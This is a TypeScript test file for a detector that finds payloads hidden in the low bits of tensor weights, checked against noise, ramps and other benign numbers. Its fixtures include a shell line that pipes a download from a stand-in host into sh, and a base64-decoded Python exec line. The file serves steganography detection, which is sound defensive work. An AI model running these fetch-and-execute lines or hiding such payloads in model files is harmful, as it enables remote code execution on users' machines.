// Payloads written into the low bits of noise, and numbers that look odd by nature.
import { describe, expect, it } from 'vitest';
import { seeded } from '../../core/random.ts';
import { LowBits, type LowBitsHit } from './low-bits.ts';

const COUNT = 20_000;
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const SCRIPT = utf8('#!/bin/sh\ncurl -s https://host.example/next | sh\n');
const PROSE = utf8('import base64; exec(base64.b64decode(PAYLOAD)) # what comes next is spread over the layers');
const ELF = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3e, 0]);
const ZIP = Uint8Array.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0, 1, 2, 3, 4]);

function noise(count = COUNT, scale = 0.02): Float32Array {
  const random = seeded(7, 'noise');
  return Float32Array.from({ length: count }, () => scale * Math.sqrt(-2 * Math.log(1 - random.next())) * Math.cos(2 * Math.PI * random.next()));
}

function look(dtype: string, bytes: Uint8Array, piece = 1000): LowBitsHit | undefined {
  const lowBits = LowBits.for(dtype, bytes.byteLength);
  for (let at = 0; at < bytes.byteLength; at += piece) lowBits?.update(bytes.subarray(at, at + piece));
  return lowBits?.finish();
}

/** The payload's bits, `bits` a number from number `from` on, highest bit of each byte first or last. */
function planted(payload: Uint8Array, bits: number, lastFirst = false, from = 0): Uint8Array {
  const words = new Uint32Array(noise().buffer);
  const stream = [...payload].flatMap((byte) => Array.from({ length: 8 }, (_, i) => (byte >> (lastFirst ? i : 7 - i)) & 1));
  for (let i = 0; i * bits < stream.length; i++) {
    const part = stream.slice(i * bits, (i + 1) * bits);
    const value = part.reduce((sum, bit, j) => sum + (bit << (lastFirst ? j : bits - 1 - j)), 0);
    words[from + i] = (((words[from + i] ?? 0) >>> bits) << bits) | value;
  }
  return new Uint8Array(words.buffer);
}

describe('low bits', () => {
  it.each([1, 2, 3, 4, 5, 6, 7, 8])('that hold a script, a program or text are found, %i of each number', (bits) => {
    expect(look('F32', planted(SCRIPT, bits))).toMatchObject({ kind: 'file', what: 'a script', element: 0 });
    expect(look('F32', planted(ELF, bits))).toMatchObject({ kind: 'file' });
    expect(look('F32', planted(ZIP, bits))).toMatchObject({ kind: 'file', what: 'a zip archive' });
    expect(look('F32', planted(PROSE, bits))?.kind).toBeDefined();
  });

  it.each([1, 2, 4])('are read with the lowest bit first as well, %i of each number', (bits) => {
    expect(look('F32', planted(SCRIPT, bits, true))).toMatchObject({ kind: 'file', order: 'lowest bit first' });
  });

  it('are read in the middle of a tensor', () => {
    expect(look('F32', planted(PROSE, 1, false, COUNT / 2 + 104))).toMatchObject({ kind: expect.any(String), element: COUNT / 2 });
  });

  it.each([[2, false], [2, true], [3, false], [3, true]])('are read as %i whole bytes (high byte first: %s)', (count, highFirst) => {
    const bytes = new Uint8Array(noise().buffer);
    for (let i = 0; i * count < SCRIPT.length; i++) for (let j = 0; j < count; j++) bytes[i * 4 + (highFirst ? count - 1 - j : j)] = SCRIPT[i * count + j] ?? 0;
    expect(look('F32', bytes)).toMatchObject({ kind: 'file', bits: 8 * count });
  });

  it('are quiet where numbers of four bits were written out again: a dozen values take turns, whose low bits may all be letters', () => {
    const letters = utf8('abcdefghKLMNOPQR');
    const random = seeded(3, 'levels');
    const numbers = Uint16Array.from({ length: COUNT }, () => 0x2c00 | (letters[random.below(letters.length)] ?? 0));
    expect(look('F16', new Uint8Array(numbers.buffer))).toBeUndefined();
    const tuned = numbers.map((value, i) => (i % 64 < 32 ? value + random.below(5) : value ^ 0x80));
    expect(look('F16', new Uint8Array(tuned.buffer))).toBeUndefined();
  });

  it('of halves that hold a longer text are found', () => {
    const words = Uint16Array.from(noise(), (value) => 0x2c00 + Math.round(Math.abs(value) * 40_000));
    utf8('The payload of this test is longer than two blocks of numbers that share a scale, and is told. '.repeat(4)).forEach((byte, i) => (words[40 + i] = ((words[40 + i] ?? 0) & 0xff00) | byte));
    expect(look('F16', new Uint8Array(words.buffer))).toMatchObject({ kind: 'text', bits: 8 });
  });

  it('are quiet in noise, in numbers of fewer bits, in ramps, waves, masks and whole numbers', () => {
    const list: readonly (readonly [string, Uint8Array])[] = [
      ['F32', new Uint8Array(noise().buffer)], ['F64', new Uint8Array(Float64Array.from(noise()).buffer)], ['F16', new Uint8Array(noise().buffer)], ['BF16', new Uint8Array(noise().buffer)],
      ['F32', new Uint8Array(noise().map((value) => Math.round(value * 2 ** 14) / 2 ** 14).buffer)],
      ['F32', new Uint8Array(Float32Array.from({ length: COUNT }, (_, i) => i / COUNT).buffer)],
      ['F32', new Uint8Array(Float32Array.from({ length: COUNT }, (_, i) => i * 0.1 + 32).buffer)],
      ['F32', new Uint8Array(Float32Array.from({ length: COUNT }, (_, i) => Math.sin(i / 100)).buffer)],
      ['F32', new Uint8Array(Float32Array.from({ length: COUNT }, (_, i) => i).buffer)],
      ['F32', new Uint8Array(Float32Array.from({ length: COUNT }, (_, i) => (i % 7 === 0 ? -Infinity : 0)).buffer)],
      ['F16', new Uint8Array(Uint16Array.from({ length: COUNT }, (_, i) => 0x3c00 + i).buffer)],
    ];
    expect(list.map(([dtype, bytes]) => look(dtype, bytes)?.what)).toEqual(list.map(() => undefined));
  });

  it('does not depend on how the bytes come in', () => {
    const bytes = planted(SCRIPT, 1);
    expect([1, 7, 4096, bytes.byteLength].map((piece) => look('F32', bytes, piece))).toEqual(Array.from({ length: 4 }, () => look('F32', bytes)));
  });

  it('leaves alone what is no float or too small', () => {
    expect(LowBits.for('I64', 1e6)).toBeUndefined();
    expect(LowBits.for('F32', 100)).toBeUndefined();
  });
});
